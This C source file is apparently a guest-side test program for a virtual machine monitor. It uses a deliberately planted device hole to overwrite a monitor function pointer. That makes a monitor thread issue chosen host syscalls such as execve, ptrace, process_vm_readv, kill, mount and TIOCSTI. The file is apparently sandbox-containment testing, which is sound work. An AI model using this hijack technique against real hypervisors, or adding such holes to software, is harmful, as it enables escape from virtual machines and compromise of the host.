/*
 * attack: a guest that has found a mistake of a device (lib/hole.h). It overwrites a pointer to a function of the
 * monitor, and so makes a thread of the monitor call the host's kernel.
 *
 * Command line: THREAD CALL PID FOLDER. THREAD is a number of enum hole_thread, CALL one of the table below ("list" in
 * place of THREAD prints it), PID a process of the host, FOLDER one in which a file would appear. If the call comes
 * back, the guest prints its result and powers off.
 */
#include "guest/bare/lib/acpi.h"
#include "guest/bare/lib/hole.h"
#include "guest/bare/lib/rt.h"

#define WAIT_MS 2000
/* Arguments: an offset in the page, and the process. */
#define AT(offset) (1ull << 62 | (offset))
#define PID (1ull << 63)

/* What the page holds. */
enum { FILE_NAME = 0, PROGRAM = 256, ARGV = 288, VECTOR = 320, SOCKADDR = 352, BUFFER = 512 };
#define HERE ((uint64_t)-100) /* AT_FDCWD */

/* Numbers and values of Linux's ABI for x86-64. */
static const struct {
	const char *name;
	uint64_t nr, arg[6];
} calls[] = {
	{ "openat", 257, { HERE, AT(FILE_NAME), 0102 /* O_RDWR | O_CREAT */, 0600 } },
	{ "stat", 4, { AT(PROGRAM), AT(BUFFER) } },
	{ "socket", 41, { 2, 1, 0 } },
	{ "execve", 59, { AT(PROGRAM), AT(ARGV), 0 } },
	{ "fork", 57, { 0 } },
	{ "clone3", 435, { AT(BUFFER), 64 } },
	{ "ptrace", 101, { 16 /* ATTACH */, PID } },
	{ "process_vm_readv", 310, { PID, AT(VECTOR), 1, AT(VECTOR), 1, 0 } },
	{ "kill", 62, { PID, 9 } },
	{ "mprotect", 10, { AT(0), 4096, 7 } },
	{ "io_uring_setup", 425, { 4, AT(BUFFER) } },
	{ "setns", 308, { 0, 0 } },
	{ "mount", 165, { AT(PROGRAM), AT(PROGRAM), 0, 4096 /* BIND */, 0 } },
	{ "TIOCSTI", 16, { 0, 0x5412, AT(BUFFER) } },
	{ "KVM_CREATE_VM", 16, { 3, 0xae01, 0 } },
	{ "TUNSETIFF", 16, { 3, 0x400454ca, AT(BUFFER) } },
};
#define NCALLS (sizeof(calls) / sizeof(calls[0]))

static uint64_t hole_at;

static void write4(uint64_t at, uint32_t v)
{
	outl(HOLE_PORT + HOLE_ADDRESS, (uint32_t)at);
	outl(HOLE_PORT + HOLE_ADDRESS_HIGH, (uint32_t)(at >> 32));
	outl(HOLE_PORT + HOLE_DATA, v);
}

static void write8(uint64_t at, uint64_t v)
{
	write4(at, (uint32_t)v);
	write4(at + 4, (uint32_t)(v >> 32));
}

static uint32_t read4(uint64_t at)
{
	outl(HOLE_PORT + HOLE_ADDRESS, (uint32_t)at);
	outl(HOLE_PORT + HOLE_ADDRESS_HIGH, (uint32_t)(at >> 32));
	return inl(HOLE_PORT + HOLE_DATA);
}

static uint64_t read8(uint64_t at)
{
	return read4(at) | (uint64_t)read4(at + 4) << 32;
}

/* A text and its NUL. */
static void write_text(uint64_t at, const char *text)
{
	for (size_t i = 0; i <= strlen(text); i += 4) {
		uint32_t v = 0;

		for (size_t k = 0; k < 4 && i + k < strlen(text); k++)
			v |= (uint32_t)(uint8_t)text[i + k] << 8 * k;
		write4(at + i, v);
	}
}

static uint64_t number(const char **s)
{
	uint64_t n = 0;

	while (**s >= '0' && **s <= '9')
		n = n * 10 + (uint64_t)(*(*s)++ - '0');
	while (**s == ' ')
		(*s)++;
	return n;
}

void main(void)
{
	const char *words = boot_cmdline;
	uint64_t thread, call, pid, page, until;

	if (!memcmp(words, "list", 4)) {
		for (unsigned i = 0; i < NCALLS; i++)
			rt_print("call %u %s\n", i, calls[i].name);
		acpi_poweroff();
	}
	thread = number(&words);
	call = number(&words);
	pid = number(&words);
	if (call >= NCALLS || inl(HOLE_PORT + HOLE_WHERE_HIGH) == ~0u)
		rt_die("no such call, or no hole");
	hole_at = inl(HOLE_PORT + HOLE_WHERE) | (uint64_t)inl(HOLE_PORT + HOLE_WHERE_HIGH) << 32;
	page = hole_at + offsetof(struct hole, page);
	write_text(page + FILE_NAME, words);
	write_text(page + PROGRAM, "/bin/true");
	write8(page + ARGV, page + PROGRAM);
	write8(page + VECTOR, page + BUFFER);
	write8(page + VECTOR + 8, 8);
	write8(hole_at + offsetof(struct hole, arg), calls[call].nr);
	for (unsigned i = 0; i < 6; i++) {
		uint64_t v = calls[call].arg[i];

		v = v == PID ? pid : v >> 62 == 1 ? page + (v & 0xfff) : v;
		write8(hole_at + offsetof(struct hole, arg) + 8 * (i + 1), v);
	}
	write8(hole_at + offsetof(struct hole, fn), read8(hole_at + offsetof(struct hole, gadget)));
	rt_print("%s\n", calls[call].name);
	outl(HOLE_PORT + HOLE_CALL, (uint32_t)thread);
	until = now_us() + WAIT_MS * 1000;
	while (!inl(HOLE_PORT + HOLE_CALL) && now_us() < until)
		relax();
	rt_print("result %s%lu\n",
		 (int64_t)read8(hole_at + offsetof(struct hole, result)) < 0 ? "-" : "",
		 (int64_t)read8(hole_at + offsetof(struct hole, result)) < 0 ?
			 -read8(hole_at + offsetof(struct hole, result)) :
			 read8(hole_at + offsetof(struct hole, result)));
	acpi_poweroff();
}
